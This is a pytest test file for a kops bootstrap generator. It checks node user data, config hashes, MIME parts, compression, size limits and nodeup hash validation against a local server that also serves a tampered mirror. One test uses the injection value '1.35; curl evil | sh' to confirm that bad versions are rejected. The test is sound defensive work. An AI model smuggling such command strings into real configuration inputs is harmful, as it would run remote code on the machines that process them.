"""The nodeup user data: kops's reference cases line for line, the config hash, MIME parts,
compression, the size limit, and the boot script itself run by bash against a local web server."""

from __future__ import annotations

import base64
import email
import gzip
import hashlib
import http.server
import lzma
import re
import subprocess
import threading
from functools import partial

import pytest
import yaml
from click.testing import CliRunner

from kopsgen.bootstrap import kyaml, releases
from kopsgen.bootstrap.userdata import USER_DATA_LIMIT
from kopsgen.cli import cli
from kopsgen.errors import RenderError
from tests.support import kops_files
from tests.support.paths import REFERENCE
from tests.support.spec_edit import cluster_spec, edited_input, edited_spec, group_spec

CERT_LINE = re.compile(r"^    ([A-Za-z0-9+/=]+|-----(BEGIN|END) CERTIFICATE-----)$")


def kube_env(user_data: bytes) -> dict:
    """The boot config a node writes to conf/kube_env.yaml, read back from the user data."""
    text = user_data.decode()
    m = re.search(r"<< '__EOF_KUBE_ENV'\n(.*?)\n__EOF_KUBE_ENV", text, re.S)
    if m:
        return yaml.safe_load(m.group(1))
    m = re.search(r'echo "([A-Za-z0-9+/=]+)" \| base64 -d \| gzip -d > conf/kube_env.yaml', text)
    return yaml.safe_load(gzip.decompress(base64.b64decode(m.group(1))))


def explain(kops_lines: list[str], our_lines: list[str]) -> list[tuple[str, str]]:
    """Every line that differs, with why. Lines are compared position by position (the structure
    is the same); only certificate lines and the config hash may differ."""
    import difflib

    reasons = []
    for tag, i1, i2, j1, j2 in difflib.SequenceMatcher(None, kops_lines, our_lines, autojunk=False).get_opcodes():
        if tag == "equal":
            continue
        for line in kops_lines[i1:i2] + our_lines[j1:j2]:
            if CERT_LINE.match(line):
                why = "kubernetes CA certificates: kops's fixed test CAs vs the CA generated for this cluster"
            elif line.startswith("NodeupConfigHash: "):
                why = "hash of the group's nodeup config, which holds those different CAs and keypair IDs"
            else:
                why = "UNEXPECTED"
            reasons.append((line, why))
    return reasons


def test_user_data_matches_kops_line_for_line(case, tmp_path):
    spec = kops_files.case_spec(case)
    cluster = kops_files.bootstrap(spec)
    report = []
    for ig in spec.instance_groups:
        ours = cluster.user_data(ig)
        golden = kops_files.reference_user_data(case, ig.name)
        if golden is None:
            # kops writes no user data for a bastion without additional parts; neither do we
            assert ig.is_bastion and not ig.additional_user_data and ours == b"", ig.name
            tf = (REFERENCE / case / "kubernetes.tf").read_text()
            block = re.search(rf'resource "aws_launch_template" "{re.escape(ig.name)}-[^"]*" {{.*?\n}}', tf, re.S)
            assert block and "user_data" not in block.group(0)
            report.append(f"{ig.name}: no user data (as kops)")
            continue
        kops_lines = kops_files.golden_text(golden.read_bytes()).splitlines()
        our_lines = kops_files.golden_text(ours).splitlines()
        reasons = explain(kops_lines, our_lines)
        unexpected = [line for line, why in reasons if why == "UNEXPECTED"]
        assert not unexpected, f"{ig.name}: lines differ from kops's for no known reason:\n" + "\n".join(unexpected)
        kinds = sorted({why for _, why in reasons})
        report.append(f"{ig.name}: {len(kops_lines)} lines, {len(reasons)} differing line(s): " + "; ".join(kinds))
    print(f"\n{case}:\n  " + "\n  ".join(report))


@pytest.mark.parametrize("case", ["minimal-dns-none", "ha", "bastionadditional_user-data"])
def test_only_control_plane_reads_the_config_base_and_nodes_ask_kops_controller(case, tmp_path):
    spec = kops_files.case_spec(case)
    cluster = kops_files.bootstrap(spec)
    for ig in spec.instance_groups:
        if ig.is_bastion:
            continue
        env = kube_env(cluster.user_data(ig))
        assert env["ClusterName"] == spec.cluster.name and env["InstanceGroupName"] == ig.name
        if ig.is_control_plane:
            assert env["ConfigBase"] == spec.cluster.raw["spec"]["configBase"] and "ConfigServer" not in env
        else:
            assert "ConfigBase" not in env
            assert env["ConfigServer"]["servers"] == [f"https://kops-controller.internal.{spec.cluster.name}:3988/"]
            ca = cluster.context.keys.get("kubernetes-ca")
            assert env["ConfigServer"]["CACertificates"] == ca.certificates_pem()


def test_config_hash_in_user_data_is_the_hash_of_the_nodeup_config_written(case, tmp_path):
    spec = kops_files.case_spec(case)
    cluster = kops_files.bootstrap(spec)
    written = {f.key: f.content for f in cluster.files}
    for ig in spec.instance_groups:
        if ig.is_bastion:
            continue
        role = {"ControlPlane": "control-plane", "Node": "node", "APIServer": "apiserver"}[ig.role]
        config = written[f"igconfig/{role}/{ig.name}/nodeupconfig.yaml"]
        expected = base64.b64encode(hashlib.sha256(config).digest()).decode()
        assert kube_env(cluster.user_data(ig))["NodeupConfigHash"] == expected


def test_additional_user_data_is_a_mime_archive_as_kops_writes_it(tmp_path):
    spec = kops_files.case_spec("bastionadditional_user-data")
    cluster = kops_files.bootstrap(spec)
    nodes = cluster.user_data(spec.instance_group("nodes"))
    assert nodes.startswith(b'Content-Type: multipart/mixed; boundary="MIMEBOUNDARY"\r\nMIME-Version: 1.0\r\n\r\n')
    message = email.message_from_bytes(nodes)
    parts = [(p.get_filename(), p.get_content_type(), p.get_payload()) for p in message.walk()
             if not p.is_multipart()]
    assert [(name, kind) for name, kind, _ in parts] == [("nodeup.sh", "text/x-shellscript"),
                                                         ("myscript.sh", "text/x-shellscript")]
    assert parts[0][2].startswith("#!/bin/bash\n") and "nodeup --install-systemd-unit" in parts[0][2]
    assert parts[1][2].strip() == group_spec_content(spec, "nodes")
    # a bastion runs no nodeup: only its own part
    bastion = cluster.user_data(spec.instance_group("bastion"))
    assert kops_files.golden_text(bastion) == kops_files.golden_text(
        kops_files.reference_user_data("bastionadditional_user-data", "bastion").read_bytes())
    assert b"nodeup" not in bastion


def group_spec_content(spec, group: str) -> str:
    return spec.instance_group(group).additional_user_data[0].content.strip()


def test_user_data_over_the_ec2_limit_is_refused_naming_the_group(tmp_path):
    big = "#!/bin/sh\n" + "".join(f"echo line {i} of a very long custom script\n" for i in range(400))
    assert len(base64.b64encode(big.encode())) > USER_DATA_LIMIT

    def edit(docs):
        group_spec(docs, "nodes")["additionalUserData"] = [
            {"name": "big.sh", "type": "text/x-shellscript", "content": big}]

    spec = edited_spec("minimal-dns-none", tmp_path, edit)
    cluster = kops_files.bootstrap(spec)
    with pytest.raises(RenderError, match=r"instance group nodes: user data is \d+ bytes once base64-encoded, "
                                          r"over EC2's limit of 16384 bytes"):
        cluster.user_data(spec.instance_group("nodes"))
    assert cluster.user_data(spec.instance_group("master-us-test-1a"))  # the other groups are fine

    # through the command line: a clean message, exit code 2, no traceback
    path = edited_input("minimal-dns-none", tmp_path / "big.yaml", edit)
    result = CliRunner().invoke(cli, ["render", "-f", str(path), "-o", str(tmp_path / "out"),
                                      "--state", f"file://{tmp_path / 'state'}"])
    assert result.exit_code == 2, result.output
    assert "instance group nodes" in result.output and "Traceback" not in result.output


def test_compressed_boot_config_decodes_with_the_nodes_own_tools(tmp_path):
    def edit(docs):
        group_spec(docs, "nodes")["compressUserData"] = True

    spec = edited_spec("minimal-dns-none", tmp_path, edit)
    cluster = kops_files.bootstrap(spec)
    nodes = spec.instance_group("nodes")
    data = cluster.user_data(nodes)
    line = next(x for x in data.decode().splitlines() if x.startswith('echo "') and "gzip -d" in x)
    assert "__EOF_KUBE_ENV" not in data.decode()
    work = tmp_path / "node"
    (work / "conf").mkdir(parents=True)
    subprocess.run(["bash", "-c", line], cwd=work, check=True)
    assert (work / "conf" / "kube_env.yaml").read_text() == kyaml.dump(cluster.boot_config(nodes))
    # and it is smaller than the plain form
    plain = kops_files.bootstrap(edited_spec("minimal-dns-none", tmp_path / "plain"))
    assert len(data) < len(plain.user_data(plain.spec.instance_group("nodes")))


def test_scripts_are_valid_bash(case, tmp_path):
    spec = kops_files.case_spec(case)
    cluster = kops_files.bootstrap(spec)
    for ig in spec.node_groups + spec.control_plane_groups:
        data = cluster.user_data(ig)
        script = data if data.startswith(b"#!") else _first_part(data)
        subprocess.run(["bash", "-n"], input=script, check=True)


def _first_part(data: bytes) -> bytes:
    message = email.message_from_bytes(data)
    return next(p for p in message.walk() if not p.is_multipart()).get_payload().encode()


# ---------------------------------------------------------------- the nodeup release


def _with_release(version):
    def edit(docs):
        cluster_spec(docs)["kopsgen"] = {"kopsVersion": version}
    return edit


def test_golden_release_is_pinned_with_known_hashes(tmp_path):
    """The reference cases run kops's golden release (set by the harness), whose nodeup hashes are pinned."""
    spec = kops_files.case_spec("minimal-dns-none")
    text = kops_files.bootstrap(spec).user_data(spec.instance_group("nodes")).decode()
    pinned = releases.RELEASES[kops_files.GOLDEN_KOPS_VERSION].nodeup_sha256
    assert f"NODEUP_HASH_AMD64={pinned['amd64']}\n" in text and f"NODEUP_HASH_ARM64={pinned['arm64']}\n" in text
    assert "published-hash" not in text


def test_default_release_is_the_newest_stable_one(tmp_path):
    """Without spec.kopsgen.kopsVersion, nodes run the default release's nodeup and the cluster its images."""
    default = releases.DEFAULT_KOPS_VERSION
    stable = [v for v in releases.RELEASES if "-" not in v]
    assert max(stable, key=lambda v: tuple(map(int, v.split(".")))) == default
    spec = edited_spec("minimal-dns-none", tmp_path)
    cluster = kops_files.bootstrap(spec)
    text = cluster.user_data(spec.instance_group("nodes")).decode()
    assert f"NODEUP_URL_AMD64=https://artifacts.k8s.io/binaries/kops/{default}/linux/amd64/nodeup," in text
    files = {f.key: f.content for f in cluster.files}
    assert files["kops-version.txt"] == default.encode()
    images = re.findall(rb"registry\.k8s\.io/kops/([a-z-]+):(\S+)", b"".join(files.values()))
    assert {name for name, tag in images} >= {b"kops-controller", b"channels", b"kube-apiserver-healthcheck"}
    assert {tag for name, tag in images} == {default.encode()}


def test_release_without_known_hashes_reads_the_published_sha256(tmp_path):
    spec = edited_spec("minimal-dns-none", tmp_path, _with_release("1.35.1"))
    cluster = kops_files.bootstrap(spec)
    text = cluster.user_data(spec.instance_group("nodes")).decode()
    assert "NODEUP_URL_AMD64=https://artifacts.k8s.io/binaries/kops/1.35.1/linux/amd64/nodeup," \
           "https://github.com/kubernetes/kops/releases/download/v1.35.1/nodeup-linux-amd64\n" in text
    assert "NODEUP_HASH_AMD64=\n" in text and "NODEUP_HASH_ARM64=\n" in text
    assert "# No nodeup hash of kops 1.35.1 is pinned in kopsgen" in text
    assert 'NODEUP_HASH=$(published-hash "${NODEUP_URL}")' in text
    # the release also names kops's own images and kops-version.txt
    files = {f.key: f.content for f in cluster.files}
    assert files["kops-version.txt"] == b"1.35.1"
    assert b"registry.k8s.io/kops/channels:1.35.1" in files["manifests/channels/kops-channels.yaml"]


def test_bad_release_version_is_refused_at_its_line(tmp_path):
    path = edited_input("minimal-dns-none", tmp_path / "c.yaml", _with_release("1.35; curl evil | sh"))
    result = CliRunner().invoke(cli, ["get", "cluster", "--full", "-f", str(path)])
    assert result.exit_code == 2
    assert re.search(r"c\.yaml:\d+:\d+: spec\.kopsgen\.kopsVersion: must be a kops release version", result.output)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture
def web(tmp_path):
    """A local web server over tmp_path/www: `broken/nodeup.xz` is not nodeup, `good/nodeup.xz` is."""
    root = tmp_path / "www"
    fake = b"#!/bin/sh\necho this is nodeup\n"
    for folder, body in (("good", fake), ("broken", b"#!/bin/sh\necho tampered\n")):
        (root / folder).mkdir(parents=True)
        (root / folder / "nodeup.xz").write_bytes(lzma.compress(body, format=lzma.FORMAT_XZ))
        (root / folder / "nodeup.sha256").write_text(hashlib.sha256(fake).hexdigest() + "  nodeup\n")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hashlib.sha256(fake).hexdigest()
    server.shutdown()


def _functions(script: str) -> str:
    """The script's functions, without its main part (which would run nodeup)."""
    return script[script.index("function ensure-install-dir"):script.index("#" * 84)]


@pytest.mark.parametrize("hash_known", [True, False], ids=["pinned-hash", "published-hash"])
def test_boot_script_downloads_and_checks_nodeup(web, tmp_path, hash_known):
    """The generated download functions, run by bash with curl and xz: the first mirror serves a
    binary that fails the hash check, the second a good one."""
    base, good_hash = web
    spec = edited_spec("minimal-dns-none", tmp_path, _with_release(kops_files.GOLDEN_KOPS_VERSION if hash_known
                                                                   else "1.35.1"))
    script = kops_files.bootstrap(spec).user_data(spec.instance_group("nodes")).decode()
    urls = f"{base}/broken/nodeup,{base}/good/nodeup"
    lookup = "" if hash_known else script[script.index('  if [[ -z "${NODEUP_HASH}" ]]'):
                                          script.index('  download-or-bust nodeup')]
    driver = "\n".join([
        "set -o errexit -o nounset -o pipefail",
        _functions(script),
        f'NODEUP_URL="{urls}"',
        f'NODEUP_HASH="{good_hash if hash_known else ""}"',
        f"mkdir -p {tmp_path}/bin && cd {tmp_path}/bin",
        lookup,
        'download-or-bust nodeup "${NODEUP_HASH}" "${NODEUP_URL}"',
    ])
    run = subprocess.run(["timeout", "60", "bash", "-c", driver], capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr
    assert (tmp_path / "bin" / "nodeup").read_bytes() == b"#!/bin/sh\necho this is nodeup\n"
    assert "Failed to validate decompressed hash" in run.stdout   # the tampered mirror was refused
    assert f"validated decompressed hash {good_hash}" in run.stdout
